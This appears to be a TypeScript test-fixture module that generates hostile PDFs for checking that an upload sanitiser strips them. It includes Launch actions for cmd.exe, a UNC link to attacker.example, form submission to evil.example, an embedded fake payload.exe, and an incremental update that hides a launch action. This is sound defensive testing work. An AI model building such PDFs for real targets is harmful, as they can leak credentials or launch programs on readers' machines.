/**
 * Hostile PDFs for the report upload tests, made by code on the spot: actions nested in
 * annotations, scripts in the names tree and on opening, XFA forms, attachments, object streams,
 * an incremental update, real encryption, a broken cross-reference table, 10,000 pages and a page
 * 100 m wide. Each carries distinctive strings (HOSTILE_MARKERS) a test can look for in the copy.
 */
import {
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  StandardFonts,
  type PDFDict,
  type PDFPage,
} from 'pdf-lib';

export const HOSTILE_MARKERS = [
  'app.alert',
  'cmd.exe',
  'attacker.example',
  'evil.example',
  'payload.exe',
  'xdp:xdp',
] as const;

const text = (value: string) => PDFString.of(value);

/** A page with a black square at (50, 600)-(150, 700) and a line of text below it. */
async function documentWithTextPage(size: [number, number] = [595, 842]) {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage(size);
  page.drawRectangle({ x: 50, y: 600, width: 100, height: 100 });
  page.drawText('A note about a house on our street', { x: 50, y: 550, size: 18, font });
  return { doc, page };
}

function addAnnotation(doc: PDFDocument, page: PDFPage, annotation: Record<string, unknown>) {
  const ref = doc.context.register(
    doc.context.obj({ Type: 'Annot', Rect: [50, 50, 250, 100], ...annotation }),
  );
  page.node.addAnnot(ref);
  return ref;
}

const javaScript = (doc: PDFDocument, script: string) =>
  doc.context.obj({ S: 'JavaScript', JS: text(script) });

/** A link whose action is JavaScript, followed by Launch, GoToR to a UNC path, URI and SubmitForm. */
function nestActions(doc: PDFDocument, page: PDFPage): void {
  const launch = doc.context.obj({
    S: 'Launch',
    F: text('cmd.exe'),
    Win: { F: text('cmd.exe'), P: text('/c calc') },
  });
  const goToR = doc.context.obj({
    S: 'GoToR',
    F: text('\\\\attacker.example\\share\\leak.pdf'),
    D: [0, 'Fit'],
  });
  const uri = doc.context.obj({ S: 'URI', URI: text('https://evil.example/track') });
  const submit = doc.context.obj({
    S: 'SubmitForm',
    F: { FS: 'URL', F: text('https://evil.example/submit') },
  });
  const first = javaScript(doc, 'app.alert("link")');
  first.set(PDFName.of('Next'), doc.context.obj([launch, goToR, uri, submit]));
  addAnnotation(doc, page, { Subtype: 'Link', A: first, Border: [0, 0, 0] });
  // Actions on events of a widget and of the page itself.
  addAnnotation(doc, page, {
    Subtype: 'Widget',
    FT: 'Btn',
    T: text('button'),
    AA: { E: javaScript(doc, 'app.alert("enter")'), X: launch },
  });
  page.node.set(PDFName.of('AA'), doc.context.obj({ O: javaScript(doc, 'app.alert("page open")') }));
}

function scriptInNamesTree(doc: PDFDocument): void {
  const names = doc.context.obj({
    JavaScript: { Names: [text('start'), javaScript(doc, 'app.alert("names tree")')] },
  });
  doc.catalog.set(PDFName.of('Names'), names);
}

function openAction(doc: PDFDocument): void {
  doc.catalog.set(PDFName.of('OpenAction'), javaScript(doc, 'app.alert("open")'));
  doc.catalog.set(PDFName.of('AA'), doc.context.obj({ WC: javaScript(doc, 'app.alert("close")') }));
}

function xfaForm(doc: PDFDocument, page: PDFPage): void {
  const field = addAnnotation(doc, page, { Subtype: 'Widget', FT: 'Tx', T: text('name'), V: text('x') });
  const xdp = doc.context.stream(
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert("xfa")</script></template></xdp:xdp>',
  );
  doc.catalog.set(
    PDFName.of('AcroForm'),
    doc.context.obj({ Fields: [field], XFA: doc.context.register(xdp), NeedsRendering: true }),
  );
}

function embeddedFile(doc: PDFDocument, page: PDFPage): void {
  const file = doc.context.register(
    doc.context.stream('MZ pretend program payload.exe', { Type: 'EmbeddedFile' }),
  );
  const spec = doc.context.register(
    doc.context.obj({ Type: 'Filespec', F: text('payload.exe'), UF: text('payload.exe'), EF: { F: file } }),
  );
  const existing = doc.catalog.get(PDFName.of('Names')) as PDFDict | undefined;
  const names = existing ?? doc.context.obj({});
  names.set(PDFName.of('EmbeddedFiles'), doc.context.obj({ Names: [text('payload.exe'), spec] }));
  doc.catalog.set(PDFName.of('Names'), names);
  addAnnotation(doc, page, { Subtype: 'FileAttachment', FS: spec, Contents: text('payload.exe') });
}

function metadata(doc: PDFDocument): void {
  doc.setAuthor('Author attacker.example');
  doc.catalog.set(
    PDFName.of('Metadata'),
    doc.context.register(
      doc.context.stream('<x:xmpmeta>attacker.example</x:xmpmeta>', { Type: 'Metadata', Subtype: 'XML' }),
    ),
  );
  doc.context.trailerInfo.ID = doc.context.obj([PDFHexString.of('00ff'), PDFHexString.of('00ff')]);
}

const save = async (doc: PDFDocument, useObjectStreams = false) =>
  Buffer.from(await doc.save({ useObjectStreams, updateFieldAppearances: false }));

/** The one-page text document, clean: for checking the copy still looks like the original. */
export async function textPage(): Promise<Buffer> {
  return save((await documentWithTextPage()).doc);
}

async function hostile(add: (doc: PDFDocument, page: PDFPage) => void, useObjectStreams = false) {
  const { doc, page } = await documentWithTextPage();
  add(doc, page);
  return save(doc, useObjectStreams);
}

/** Every hostile PDF that a reader can open: each should come back as pictures alone. */
export async function openableHostilePdfs(): Promise<Record<string, Buffer>> {
  const everything = (doc: PDFDocument, page: PDFPage) => {
    nestActions(doc, page);
    scriptInNamesTree(doc);
    openAction(doc);
    xfaForm(doc, page);
    embeddedFile(doc, page);
    metadata(doc);
  };
  return {
    'actions nested in annotations': await hostile(nestActions),
    'JavaScript in the names tree': await hostile(scriptInNamesTree),
    OpenAction: await hostile(openAction),
    'XFA form': await hostile(xfaForm),
    'embedded file': await hostile(embeddedFile),
    'all of them in object streams': await hostile(everything, true),
    'incremental update': await incrementalUpdate(),
    'malformed cross-reference table': await malformedXref(),
    'page 100 m wide': await pageOneHundredMetresWide(),
  };
}

/**
 * A clean file with an update appended, as an editor saves one: the update replaces the catalogue
 * with one that launches cmd.exe on opening. Readers use the newest version of each object.
 */
async function incrementalUpdate(): Promise<Buffer> {
  const { doc } = await documentWithTextPage();
  const original = await save(doc);
  const root = doc.context.trailerInfo.Root as unknown as { objectNumber: number };
  const pages = doc.catalog.get(PDFName.of('Pages')) as unknown as { objectNumber: number };
  const previous = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(original.toString('latin1'))?.[1];
  if (!previous) throw new Error('no startxref in the clean file');
  const action = doc.context.largestObjectNumber + 1;
  const objects: [number, string][] = [
    [action, '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c app.alert) >> >>'],
    [root.objectNumber, `<< /Type /Catalog /Pages ${pages.objectNumber} 0 R /OpenAction ${action} 0 R >>`],
  ];
  let at = original.length;
  let body = '\n';
  at += 1;
  const offsets: [number, number][] = [];
  for (const [number, value] of objects) {
    const object = `${number} 0 obj\n${value}\nendobj\n`;
    offsets.push([number, at]);
    body += object;
    at += Buffer.byteLength(object, 'latin1');
  }
  const xref =
    'xref\n' +
    offsets
      .map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`)
      .join('') +
    `trailer\n<< /Size ${action + 1} /Root ${root.objectNumber} 0 R /Prev ${previous} >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([original, Buffer.from(body + xref, 'latin1')]);
}

/** Every offset in the cross-reference table wrong, and startxref pointing nowhere. */
async function malformedXref(): Promise<Buffer> {
  const { doc, page } = await documentWithTextPage();
  nestActions(doc, page);
  const bytes = (await save(doc)).toString('latin1');
  return Buffer.from(
    bytes
      .replace(/^(\d{10}) 00000 n/gm, '0000000999 00000 n')
      .replace(/startxref\s+\d+/, 'startxref\n123456789'),
    'latin1',
  );
}

/** 100 m is 283,465 points: a reader drawing it at 150 dpi would need 55 gigapixels. */
export async function pageOneHundredMetresWide(): Promise<Buffer> {
  const { doc } = await documentWithTextPage([283_465, 842]);
  return save(doc);
}

export async function tenThousandPages(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < 10_000; i++) doc.addPage([200, 200]);
  return save(doc, true);
}

/** Encrypted for real (AES-256) by MuPDF, with a password needed to open it. */
export async function encryptedPdf(): Promise<Buffer> {
  const mupdf = await import('mupdf');
  const source = new mupdf.PDFDocument(await textPage());
  return Buffer.from(
    source.saveToBuffer('encrypt=aes-256,user-password=open-sesame,owner-password=owner').asUint8Array(),
  );
}
